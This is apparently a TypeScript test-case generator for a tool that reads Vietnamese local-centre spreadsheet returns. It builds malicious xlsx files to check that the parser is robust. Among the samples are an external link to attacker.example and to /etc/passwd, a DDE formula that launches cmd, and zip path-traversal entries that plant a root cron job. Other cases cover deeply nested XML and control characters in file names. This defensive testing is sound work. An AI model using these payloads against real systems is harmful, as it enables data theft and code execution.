    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] =
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/externalLinkPath" Target="http://attacker.example/steal.xlsx" TargetMode="External"/><Relationship Id="rId2" Type="${REL}/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`;
    // The link's own part declares 4 GB: were it ever opened, the file would be refused.
    const entries = entriesOf(parts).map((entry) =>
      entry.name === "xl/externalLinks/externalLink1.xml" ? { ...entry, size: 0xfffffff0 } : entry
    );
    add({
      id: "external-links",
      title: "external links ([1]Sheet1!A1, a UNC path, a DDE formula) with cached values",
      name: "mau2-phuong-thuy-phuong.xlsx",
      bytes: writeRawZip(entries),
      expected: {
        status: "accepted",
        codes: [],
        unit: "Phường Thủy Phương",
        forms: ["mau2"],
        counted: counted(counts),
      },
    });
  }

  // Very many rows within the limits: the form, then 300,000 rows pasted far below it.
  {
    const counts = countsFor(seeds.luong);
    const parts = mau2Parts({ header: "TRUNG TÂM HTCĐ PHƯỜNG THỦY LƯƠNG", values: counts });
    const rows: string[] = [];
    for (let r = 1000; r < 301_000; r++)
      rows.push(`<row r="${r}"><c r="H${r}"><v>${r}</v></c></row>`);
    add({
      id: "many-rows",
      title: "a form followed by 300,000 filled rows",
      name: "mau2-phuong-thuy-luong-300000-hang.xlsx",
      bytes: zip({ ...parts, [SHEET1]: withRows(parts[SHEET1], rows.join("")) }),
      expected: {
        status: "accepted",
        codes: [],
        unit: "Phường Thủy Lương",
        forms: ["mau2"],
        counted: counted(counts),
      },
    });
  }

  // 100,000 shared strings on a scratch sheet, and a proposal just under Excel's cell limit.
  {
    const counts = countsFor(seeds.thanh);
    const scratch: Cells = {};
    for (let i = 1; i <= 100_000; i++) scratch[`A${i}`] = `Dòng nháp số ${i}`;
    const proposal = `Đề nghị tăng kinh phí. ${"Nội dung kiến nghị dài. ".repeat(1300)}`.slice(
      0,
      32_000
    );
    add({
      id: "many-shared-strings",
      title: "100,000 shared strings and a 32,000-character proposal",
      name: "mau2-xa-thuy-thanh.xlsx",
      bytes: zip(
        mau2Parts({
          header: "TRUNG TÂM HTCĐ XÃ THỦY THANH",
          values: counts,
          texts: { proposals: [proposal] },
          extraSheets: [{ name: "Nháp", cells: scratch }],
        })
      ),
      expected: {
        status: "accepted",
        codes: [],
        unit: "Xã Thủy Thanh",
        forms: ["mau2"],
        counted: counted(counts),
      },
    });
  }

  // Another campaign's form: of the same year, counted with a warning; of another year, refused.
  {
    const counts = countsFor(seeds.bang);
    add({
      id: "wrong-campaign",
      title: "a generated form of another campaign of the same year (phu-vang-2017)",
      name: "mau2-xa-thuy-bang.xlsx",
      bytes: zip(
        mau2Parts({
          header: "TRUNG TÂM HTCĐ XÃ THỦY BẰNG",
          values: counts,
          metadata: {
            campaign: "phu-vang-2017",
            year: "2017",
            unit: "Xã Thủy Bằng",
            mau2: "Mẫu 2",
          },
        })
      ),
      expected: {
        status: "accepted",
        codes: ["campaign_mismatch"],
        params: { found: "phu-vang-2017", expected: CAMPAIGN_ID },
        unit: "Xã Thủy Bằng",
        forms: ["mau2"],
        counted: counted(counts),
        says: ['"phu-vang-2017"', '"huong-thuy-2017"', "Hãy kiểm tra"],
      },
    });
    add({
      id: "other-year",
      title: "a generated form of another year's campaign (tan-binh-2022)",
      name: "mau2-xa-thuy-phu-2022.xlsx",
      bytes: zip(
        mau2Parts({
          header: "TRUNG TÂM HTCĐ XÃ THỦY PHÙ",
          values: counts,
          metadata: {
            campaign: "tan-binh-2022",
            year: "2022",
            unit: "Xã Thủy Phù",
            mau2: "Mẫu 2",
          },
        })
      ),
      expected: {
        status: "rejected",
        codes: ["campaign_mismatch", "other_year"],
        params: { found: 2022, expected: 2017 },
        unit: "Xã Thủy Phù",
        forms: ["mau2"],
        says: ["năm 2022", "năm 2017", "không được tính"],
      },
    });
  }

  // A form made by another version of TổngHợp.
  {
    const counts = countsFor(seeds.phu);
    add({
      id: "wrong-form-version",
      title: "a generated form whose template version is unknown (99)",
      name: "mau2-xa-thuy-phu.xlsx",
      bytes: zip(
        mau2Parts({
          header: "TRUNG TÂM HTCĐ XÃ THỦY PHÙ",
          values: counts,
          metadata: { templateVersion: "99", unit: "Xã Thủy Phù", mau2: "Mẫu 2" },
        })
      ),
      expected: {
        status: "accepted",
        codes: ["template_version_mismatch"],
        params: { found: "99", expected: "1" },
        unit: "Xã Thủy Phù",
        forms: ["mau2"],
        counted: counted(counts),
        says: ["phiên bản 99", "Hãy kiểm tra"],
      },
    });
  }

  // Two entries of the same name: the first in the central directory is read, so a later
  // entry cannot swap other values in.
  {
    const counts = countsFor(seeds.tan);
    const parts = mau2Parts({ header: "TRUNG TÂM HTCĐ XÃ THỦY TÂN", values: counts });
    const evil = mau2Parts({
      header: "TRUNG TÂM HTCĐ XÃ THỦY TÂN",
      values: Object.fromEntries(INDICATOR_IDS.map((id) => [id, 999])),
    });
    const entries = entriesOf(parts);
    entries.push(deflatedEntry(SHEET1, evil[SHEET1]), deflatedEntry(SST, evil[SST]));
    add({
      id: "duplicate-entry-names",
      title: "a zip holding two entries of each sheet part's name",
      name: "mau2-xa-thuy-tan.xlsx",
      bytes: writeRawZip(entries),
      expected: {
        status: "accepted",
        codes: [],
        unit: "Xã Thủy Tân",
        forms: ["mau2"],
        counted: counted(counts),
      },
    });
  }

  // Numbers no count can be: NaN, infinities, negatives, fractions, more digits than exist.
  {
    const counts = countsFor(seeds.son);
    const bad: Partial<Record<IndicatorId, CellSpec>> = {
      phong_su: Number.NaN,
      tin_bai_phat_thanh: Number.POSITIVE_INFINITY,
      bao_tuong_bai_viet: -5,
      sach_tai_lieu: 1e308,
      pano_bang_ron_khau_hieu: "99999999999999999999",
      trien_lam: 2.5,
      van_nghe: -0,
    };
    add({
      id: "impossible-numbers",
      title: "NaN, Infinity, -5, 2.5, 1e308 and a 20-digit count",
      name: "mau2-xa-phu-son.xlsx",
      bytes: zip(mau2Parts({ header: "TRUNG TÂM HTCĐ XÃ PHÚ SƠN", values: { ...counts, ...bad } })),
      expected: {
        status: "accepted",
        codes: [
          "count_fractional",
          "count_negative",
          "count_not_a_number",
          "count_too_large",
          "participants_without_sessions",
        ],
        unit: "Xã Phú Sơn",
        forms: ["mau2"],
        counted: counted(counts, {
          phong_su: null,
          tin_bai_phat_thanh: null,
          bao_tuong_bai_viet: null,
          sach_tai_lieu: null,
          pano_bang_ron_khau_hieu: null,
          trien_lam: null,
          van_nghe: 0,
        }),
      },
    });
  }

  // Zip entry names that climb out of any folder: never written anywhere, so harmless.
  {
    const counts = countsFor(seeds.hoa);
    const entries = entriesOf(mau2Parts({ header: "TRUNG TÂM HTCĐ XÃ DƯƠNG HÒA", values: counts }));
    entries.push(
      deflatedEntry("../../../../../../tmp/tonghop-pwned.txt", "pwned"),
      deflatedEntry("/etc/cron.d/tonghop-pwned", "* * * * * root touch /tmp/tonghop-pwned"),
      deflatedEntry("C:\\Windows\\System32\\tonghop-pwned.dll", new Uint8Array([0x4d, 0x5a])),
      deflatedEntry("xl/../../tonghop-pwned.xml", "<x/>")
    );
    add({
      id: "path-traversal-entries",
      title: "zip entries named ../../tmp/x, /etc/cron.d/x and C:\\Windows\\x",
      name: "mau2-xa-duong-hoa.xlsx",
      bytes: writeRawZip(entries),
      expected: {
        status: "accepted",
        codes: [],
        unit: "Xã Dương Hòa",
        forms: ["mau2"],
        counted: counted(counts),
      },
    });
  }

  // Formula-like text in every text field, in the unit's name and in the file's name.
  {
    const counts = countsFor(20);
    const texts = [...FORMULA_TEXTS];
    const pick = (i: number): string => texts[i % texts.length] as string;
    const notes = Object.fromEntries(INDICATOR_IDS.map((id, i) => [id, pick(i)])) as Partial<
      Record<IndicatorId, string>
    >;
    add({
      id: "formula-text",
      title: "formula-like text (= + - @, DDE, HYPERLINK) in every text field and the unit's name",
      name: FORMULA_FILE,
      bytes: zip(
        mau2Parts({
          header: FORMULA_UNIT,
          values: { ...counts, ke_hoach: "=1+1", phong_su: "@SUM(1+1)*cmd|' /C calc'!A0" },
          notes,
          texts: {
            direction: [pick(0), pick(1)],
            difficulties: [pick(2), pick(3)],
            proposals: [pick(5), pick(6)],
          },
          metadata: { unit: FORMULA_UNIT, mau2: "Mẫu 2", mau1: "Mẫu 1" },
          mau1: {
            header: FORMULA_UNIT,
            rows: [
              ["07:30", day(3), pick(0), pick(1), pick(2)],
              ["08:00", day(5), pick(3), pick(5), pick(7)],
            ],
          },
        })
      ),
      expected: {
        status: "accepted",
        // The form holds Mẫu 1 too, saved after its deadline.
        codes: ["count_ambiguous", "late_return", "unit_not_on_roster"],
        unit: FORMULA_UNIT,
        forms: ["mau1", "mau2"],
        counted: counted(counts, { ke_hoach: null, phong_su: null }),
        scheduleRows: 2,
      },
    });
  }

  // --- Mẫu 1 returns ------------------------------------------------------------------------
  // Two files called mau1.xlsx from two folders (a Zalo and an e-mail download): both count.
  for (const [folder, unit, header] of [
    ["zalo", "Phường Thủy Dương", "Trung tâm HTCĐ phường Thủy Dương"],
    ["email", "Phường Thủy Phương", "Trung tâm HTCĐ phường Thủy Phương"],
  ] as const) {
    add({
      id: `same-name-${folder}`,
      title: `mau1.xlsx from the folder ${folder} (same name as another file)`,
      name: `${folder}/mau1.xlsx`,
      bytes: zip(mau1Parts({ header, rows: ACTIVITIES })),
      expected: { status: "accepted", codes: [], unit, forms: ["mau1"], scheduleRows: 2 },
    });
  }
  {
    const parts = mau1Parts({
      header: "Trung tâm HTCĐ xã Thủy Thanh",
      rows: ACTIVITIES,
      extraCells: { A1048576: "Ghi chú cuối trang", XFD1048576: "ô cuối cùng" },
    });
    parts[SHEET1] = edit(
      parts[SHEET1],
      "<sheetData>",
      '<dimension ref="A1:XFD1048576"/><sheetData>'
    );
    add({
      id: "last-row-and-column",
      title: "a sheet that spans A1:XFD1048576, with notes in A1048576 and XFD1048576",
      name: "mau1-xa-thuy-thanh.xlsx",
      bytes: zip(parts),
      expected: {
        status: "accepted",
        codes: [],
        unit: "Xã Thủy Thanh",
        forms: ["mau1"],
        scheduleRows: 2,
      },
    });
  }
  {
    const parts = mau1Parts({ header: "Trung tâm HTCĐ phường Thủy Lương", rows: ACTIVITIES });
    const depth = 200_000;
    const nested = `${"<x:a>".repeat(depth)}${"</x:a>".repeat(depth)}`;
    const sheet = edit(
      edit(parts[SHEET1], "</sheetData>", `</sheetData><extLst>${nested}</extLst>`),
      /<c r="A1"[^>]*>/,
      (cell) => `${cell}<junk>${"<b>".repeat(depth)}${"</b>".repeat(depth)}</junk>`
    );
    add({
      id: "deep-nesting",
      title: "XML nested 200,000 elements deep, inside a cell and after the sheet data",
      name: "mau1-phuong-thuy-luong.xlsx",
      bytes: zip({
        ...parts,
        [SHEET1]: sheet,
        [SST]: edit(parts[SST], /<si>/, `<si>${"<r>".repeat(depth)}${"</r>".repeat(depth)}`),
      }),
      expected: {
        status: "accepted",
        codes: [],
        unit: "Phường Thủy Lương",
        forms: ["mau1"],
        scheduleRows: 2,
      },
    });
  }
  add({
    id: "backslash-file-name",
    title: "a file name with Windows path separators; the unit is read from it",
    name: "..\\..\\Windows\\System32\\mau1-xa-duong-hoa.xlsx",
    bytes: zip(mau1Parts({ header: "Trung tâm HTCĐ xã phường/ Trường ……………", rows: ACTIVITIES })),
    expected: {
      status: "accepted",
      codes: [],
      unit: "Xã Dương Hòa",
      forms: ["mau1"],
      scheduleRows: 2,
    },
  });
  add({
    id: "control-characters-in-name",
    title: "a photo whose file name holds an escape sequence, a bell, CR LF and a bidi override",
    name: "anh\u001b[2J\u001b[31m-bao\u0007cao\r\nOK \u202egpj.xlsx",
    bytes: new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0]),
    expected: rejected("not_a_zip", ["anh␛[2J␛[31m-bao␇cao␍␊OK", "ảnh"], { detected: "jpeg" }),
  });

  // --- The same return twice -----------------------------------------------------------------
  add({
    id: "same-bytes-twice",
    title: "a good return sent again under another name (same bytes)",
    name: input.copyOf.name.replace(/\.xlsx$/, " (1).xlsx"),
    bytes: input.copyOf.bytes.slice(),
    expected: {
      status: "accepted",
      codes: [],
      unit: input.copyOf.unit,
      forms: ["mau2"],
      twin: input.copyOf.name,
    },
  });

  // --- A folder with a workbook's name ----------------------------------------------------------
  add({
    id: "directory-named-xlsx",
    title: "a folder named like a workbook",
    name: "thu-muc.xlsx",
    bytes: "directory",
    expected: rejected("file_unreadable", ["thư mục", "Hãy kiểm tra"]),
  });

  return cases;
}
